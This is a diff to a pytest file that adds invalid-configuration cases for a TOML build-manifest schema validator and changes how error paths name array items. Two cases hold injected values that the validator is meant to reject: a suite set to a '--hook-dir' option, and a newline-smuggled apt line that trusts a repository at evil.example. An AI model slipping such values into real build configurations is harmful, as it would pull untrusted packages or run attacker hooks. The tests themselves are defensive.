@@ -36,6 +36,20 @@ MISTAKES = [
     pytest.param('source = { kind = "tree", path = "components/canary" }',
                  'source = { kind = "tree", path = "components/canary", commit = "' + "0" * 40 + '" }',
                  "components.canary.source.commit", id="key-of-another-kind"),
+    pytest.param('suite = "forky"', 'suite = "--hook-dir=/tmp/x"', "sysroot.suite", id="suite-as-option"),
+    pytest.param('suite = "forky"', 'suite = "forky main\\ndeb [trusted=yes] http://evil.example/ x"',
+                 "sysroot.suite", id="suite-with-a-line"),
+    pytest.param('keyring = "/usr/share', 'keyring = "usr/share', "sysroot.keyring", id="relative-keyring"),
+    pytest.param("schema = 1", "schema = 2", "schema", id="schema-version"),
+    pytest.param('recipe = "cmake"', 'recipe = "make"', "components.canary.recipe", id="unknown-recipe"),
+    pytest.param('[components.cpuinfo.tests]\nkind = "ctest"', '[components.cpuinfo.tests]\nkind = "ctst"',
+                 "components.cpuinfo.tests.kind", id="unknown-suite-kind"),
+    pytest.param('precision = "fp32"', 'precision = "fp16"', "models.smollm2.precision", id="precision"),
+    pytest.param('portable = ["novector"] }', 'portable = ["novector"], cuda = ["rvv128"] }',
+                 "cases.riscv-ci.profiles.cuda", id="unknown-backend-profiles"),
+    pytest.param('exclude = [{ backend = "portable", quantize = true }',
+                 'exclude = [{ backend = "portable", quantize = "yes" }', "cases.riscv-ci.exclude[0].quantize",
+                 id="exclusion-type"),
 ]
 
 
@@ -58,7 +72,8 @@ def schema_locations(text: str) -> set[str]:
     found = set()
     for error in validator.iter_errors(tomllib.loads(text)):
         for leaf in [error, *error.context]:
-            path = ".".join(str(part) for part in leaf.absolute_path)
+            path = "".join(f"[{part}]" if isinstance(part, int) else f".{part}" for part in leaf.absolute_path)
+            path = path.removeprefix(".")  # an array's item as the loader names it: exclude[0]
             names = re.findall(r"'([^']+)' (?:was|were) unexpected", leaf.message)
             if "propertyNames" in leaf.relative_schema_path and isinstance(leaf.instance, str):
                 names.append(leaf.instance)  # a key this table's kind does not have
